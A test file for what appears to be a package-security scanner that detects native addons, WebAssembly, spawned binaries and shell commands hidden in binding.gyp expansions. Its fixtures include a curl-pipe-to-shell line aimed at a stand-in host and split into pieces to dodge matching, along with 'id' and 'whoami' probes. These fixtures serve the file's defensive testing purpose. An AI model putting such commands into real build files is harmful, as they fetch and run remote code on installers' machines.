// Addons, WebAssembly, and what building a package runs.
import { describe, expect, test } from 'vitest';
import { gypCommands } from '../../src/behaviors/gyp.ts';
import { nativeCode } from '../../src/behaviors/native-code.ts';
import { factsOf, HOSTILE } from './facts.ts';

const of = (source: string) => factsOf(nativeCode, 'native-code', source).map(({ form, api }) => `${form} ${api}`);
const ofPackage = (bindingGyp: string | undefined, manifest?: object) => factsOf(nativeCode, 'native-code', { files: [], ...(bindingGyp === undefined ? {} : { bindingGyp }), ...(manifest === undefined ? {} : { manifest: JSON.stringify(manifest, undefined, 2) }) });

test.each<[string, string]>([
  ["require('./build/Release/x.node')", 'addon require'],
  ["import { createRequire } from 'module'; const require = createRequire(import.meta.url); require('./x.node')", 'addon module.createRequire()'],
  ["require('bindings')('x')", 'addon bindings'],
  ["require('node-gyp-build')(__dirname)", 'addon node-gyp-build'],
  ["process.dlopen(module, './x.node')", 'addon process.dlopen'],
  ["process.binding('spawn_sync')", 'addon process.binding'],
  ['WebAssembly.instantiate(bytes)', 'webassembly WebAssembly.instantiate'],
  ['new WebAssembly.Module(bytes)', 'webassembly WebAssembly.Module'],
  ["import x from './x.wasm'", 'webassembly import'],
  ["require('child_process').spawn(require('path').join(__dirname, 'bin', 'tool'), [])", 'binary child_process.spawn'],
])('%s', (source, expected) => {
  expect(of(source)).toContain(expected);
});

test.each(["require('./x.json')", "require('child_process').spawn('git')", "require('./node')", "require('child_process').spawn(require('path').join(__dirname, 'x.js'))"])('no fact: %s', (source) => {
  expect(of(source)).toEqual([]);
});

describe('binding.gyp', () => {
  test.each<[string, string, readonly string[]]>([
    ['expansion', '{ "targets": [{ "sources": ["<!(node setup.js)"] }] }', ['node setup.js']],
    ['list expansion in single quotes', "{ 'include_dirs': [ '<!@(node -p \"require(\\'node-addon-api\\').include\")' ], }", ['node -p "require(\'node-addon-api\').include"']],
    ['late expansion', "{'a': '>!(id) and ^!@(whoami)'}", ['id', 'whoami']],
    ['inside other text', "{'a': 'x<!(id)y'}", ['id']],
    ['text in pieces', "{'a': '<!(cu' 'rl https://a.example/' '| sh)'}", ['curl https://a.example/| sh']],
    ['escapes', String.raw`{'a': '<!(\x69\144)'}`, ['id']],
    ['nested', "{'a': '<!(echo $(id) | sh)'}", ['echo $(id) | sh']],
    ['python module', "{'a': '<!pymod_do_main(x y)'}", ['x y']],
    ['action', "{ 'targets': [{ 'actions': [{ 'action_name': 'a', 'inputs': ['x'], 'action': ['node', '<(module_root)/x.js', '--y'], 'outputs': [] }] }] }", ['node <(module_root)/x.js --y']],
    ['comment', "{\n# '<!(no)'\n'a': 1 }", []],
    ['three quotes', "{'a': '''<!(id)'''}", ['id']],
    ['not closed', "{'a': '<!(id", ['id']],
    ['plain', "{ 'targets': [{ 'target_name': 'x', 'sources': ['a.cc'], 'conditions': [['OS==\"win\"', { 'defines': ['A'] }]] }] }", []],
    ['empty', '', []],
    ['noise', '\u0000}}]])):,', []],
  ])('%s', (_name, text, commands) => {
    expect(gypCommands(text).map(({ command }) => command)).toEqual(commands);
  });
  test('a command is placed, and secrets are left out', () => {
    expect(ofPackage("{\n  'a': '<!(curl https://u:p@a.example/x)'\n}")).toMatchObject([{ form: 'binding-gyp', command: 'curl https://a.example/x', place: { path: 'binding.gyp', line: 2, column: 8 } }]);
  });
  test('a file without commands is a fact', () => {
    expect(ofPackage('{}')).toMatchObject([{ form: 'binding-gyp', place: { path: 'binding.gyp', line: 1 } }]);
  });
  test('hostile sizes', () => {
    expect(gypCommands(`{'a': '${'<!('.repeat(200_000)}'}`)).toHaveLength(1_000);
    expect(gypCommands("'action': [".repeat(50_000))).toHaveLength(1_000);
    expect(gypCommands("'a' ".repeat(200_000))).toHaveLength(0);
  });
});

test('scripts that build or fetch a binary', () => {
  expect(ofPackage(undefined, { scripts: { install: 'prebuild-install -r napi || node-gyp rebuild', prepare: 'tsc' } })).toMatchObject([{ form: 'binary', api: 'prebuild-install', place: { path: 'package.json', line: 3 } }]);
  expect(ofPackage(undefined, { scripts: { install: 'node-gyp rebuild' } })).toMatchObject([{ form: 'addon', api: 'node-gyp' }]);
});

test.each(HOSTILE)('hostile source %#', (source) => {
  expect(Array.isArray(of(source))).toBe(true);
});
